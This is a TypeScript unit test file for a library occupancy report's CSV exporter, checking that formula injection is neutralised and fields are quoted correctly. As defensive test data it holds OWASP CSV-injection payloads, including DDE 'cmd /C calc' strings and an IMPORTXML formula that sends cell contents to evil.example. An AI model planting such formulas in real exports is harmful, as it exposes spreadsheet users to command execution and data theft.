import { csvSafe, recommendationsCsv, statisticsReturnsCsv, toCsv, zoneDaysCsv, type StatisticsReturnRow, type ZoneDayRow } from './csv.js';
import { reportFixture } from './report.fixture.js';

const BOM = '\ufeff';

describe('csvSafe', () => {
  it.each([
    ['=SUM(A1)', "'=SUM(A1)"],
    ['+1', "'+1"],
    ['-2+3', "'-2+3"],
    ['@cmd', "'@cmd"],
    ['\tcalc', "'\tcalc"],
    ['\rcalc', "'\rcalc"],
    ['\ncalc', "'\ncalc"],
    // Full-width forms some spreadsheets read as formulas too, and formulas behind leading spaces an import may trim.
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ['  =1+1', "'  =1+1"],
    ['\u00a0@x', "'\u00a0@x"],
    ['Reading room', 'Reading room'],
    ['a=b', 'a=b'],
    ['Room -1', 'Room -1'],
    ['', ''],
  ])('makes %j safe as %j', (value, expected) => {
    expect(csvSafe(value)).toBe(expected);
  });

  it('keeps numbers as numbers, negative ones included, and blanks missing values', () => {
    expect(csvSafe(-2)).toBe(-2);
    expect(csvSafe(-0.5)).toBe(-0.5);
    expect(csvSafe(42)).toBe(42);
    expect(csvSafe(null)).toBe('');
    expect(csvSafe(undefined)).toBe('');
    expect(csvSafe(Number.NaN)).toBe('');
    expect(csvSafe(true)).toBe('true');
  });
});

describe('toCsv', () => {
  it('writes a header, CRLF line ends, quotes what needs quoting and neutralises formulas', () => {
    const csv = toCsv(['name', 'value'], [
      ['a, b', -2],
      ['say "hi"', 3.5],
      ['line 1\nline 2', null],
      ['=HYPERLINK("x")', 0],
    ]);
    expect(csv).toBe(BOM + 'name,value\r\n"a, b",-2\r\n"say ""hi""",3.5\r\n"line 1\nline 2",\r\n"\'=HYPERLINK(""x"")",0\r\n');
  });

  it('quotes fields holding a semicolon or a tab, so a spreadsheet set to another separator cannot split one into a formula', () => {
    expect(toCsv(['name'], [['Cafe;=1+1'], ['Cafe\t@x']], { bom: false })).toBe('name\r\n"Cafe;=1+1"\r\n"Cafe\t@x"\r\n');
  });

  it.each([
    '=cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '+HYPERLINK("http://evil.example","click")',
    '-2+3+cmd|\' /C calc\'!A0',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '\t=1+1',
    '\r=1+1',
  ])('neutralises the OWASP CSV-injection payload %j in a zone name', (payload) => {
    const csv = zoneDaysCsv([{ date: '2026-03-14', floor: 'ground', zone: 'cafe', zoneName: payload, openHours: 8, meanOccupancy: -0, peak: 3, utilisation: 0.25, hoursAbove: 0, arrivals: 12 }], { bom: false });
    const [, row] = csv.split('\r\n');
    // The fourth field, unquoted by the CSV rules, starts with the apostrophe.
    const field = /^2026-03-14,ground,cafe,("(?:[^"]|"")*"|[^,]*),/.exec(row!)![1]!;
    const value = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
    expect(value).toBe(`'${payload}`);
    // The figures stay numbers.
    expect(row!.endsWith(',8,0,3,0.25,0,12')).toBe(true);
  });

  it('leaves the byte order mark out on request', () => {
    expect(toCsv(['a'], [['é']], { bom: false })).toBe('a\r\né\r\n');
  });
});

describe('recommendationsCsv', () => {
  const recs = reportFixture().recommendations;
  const lines = recommendationsCsv(recs, { bom: false }).split('\r\n');

  it('has one row per recommendation and budget level after the header', () => {
    expect(lines[0]).toBe(
      'id,rule,priority,title,finding,zones,budget,action,expected effect,check metric,check zones,check direction,check by,check after weeks,evidence',
    );
    // 5 recommendations x 3 levels, the header, and the empty string after the last CRLF.
    expect(lines).toHaveLength(1 + 15 + 1);
    expect(lines[16]).toBe('');
  });

  it('spells out each level with its action, check and evidence', () => {
    expect(lines[1]).toBe(
      'crowded-beside-idle:reading,crowded-beside-idle,high,Open the group study rooms to quiet study at peak times,' +
        '"The Reading room was ≥ 85 % full for 62 of 243 open hours, mostly 13:00–17:00, while the Group study rooms next door averaged 18 % of their 24 places.",' +
        '"reading; group",No budget,Sign two of the four group rooms as quiet study from 13:00 to 17:00 on weekdays.,About 12 more quiet seats at the busiest time.,' +
        'Hours above 85 %,reading,down,a third,4,' +
        '"Reading room: hours above 85 %: 62 h; Reading room: use of capacity: 71 %; Group study rooms: use of capacity: 18 %"',
    );
    expect(lines[2]).toContain(',Low budget,');
    expect(lines[3]).toContain(',High budget,');
  });

  it('neutralises a finding that starts with "="', () => {
    const row = lines.find((l) => l.startsWith('short-stays-at-study-desks:computers,'))!;
    expect(row).toContain(',"\'=40 % of the sessions at the public computers');
  });
});

describe('zoneDaysCsv', () => {
  it('writes one row per zone and day, rounding shares and leaving missing figures empty', () => {
    const rows: ZoneDayRow[] = [
      { date: '2026-03-02', floor: 'G', zone: 'cafe', zoneName: 'Café', openHours: 9, meanOccupancy: 12.345, peak: 27, utilisation: 0.1 + 0.2, hoursAbove: 1.5, arrivals: 310 },
      { date: '2026-03-02', floor: 'G', zone: 'events', zoneName: '-Events, main hall', openHours: 9, meanOccupancy: null, peak: null, utilisation: null, hoursAbove: null, arrivals: null },
    ];
    expect(zoneDaysCsv(rows)).toBe(
      BOM +
        'date,floor,zone,zone name,open hours,mean occupancy (people),peak (people),utilisation (share of capacity),hours above 85 %,arrivals\r\n' +
        '2026-03-02,G,cafe,Café,9,12.35,27,0.3,1.5,310\r\n' +
        '2026-03-02,G,events,"\'-Events, main hall",9,,,,,\r\n',
    );
  });
});

describe('statisticsReturnsCsv', () => {
  const rows: StatisticsReturnRow[] = [
    { site: 'riverside', siteName: 'Riverside Library', period: '2026-03', visits: 33480.4, openDays: 27, source: 'entrance counters' },
    { site: 'riverside', siteName: 'Riverside Library', period: '2026', visits: 391220, openDays: 301, source: 'entrance counters, gaps estimated' },
  ];

  it('writes visits per branch per month and per year', () => {
    expect(statisticsReturnsCsv(rows, { bom: false })).toBe(
      'site,site name,period,period type,visits,open days,source\r\n' +
        'riverside,Riverside Library,2026-03,month,33480,27,entrance counters\r\n' +
        'riverside,Riverside Library,2026,year,391220,301,"entrance counters, gaps estimated"\r\n',
    );
  });

  it('refuses a period that is neither a month nor a year', () => {
    expect(() => statisticsReturnsCsv([{ ...rows[0], period: '2026-13' }])).toThrow(RangeError);
    expect(() => statisticsReturnsCsv([{ ...rows[0], period: '26' }])).toThrow(/neither a month/);
  });
});
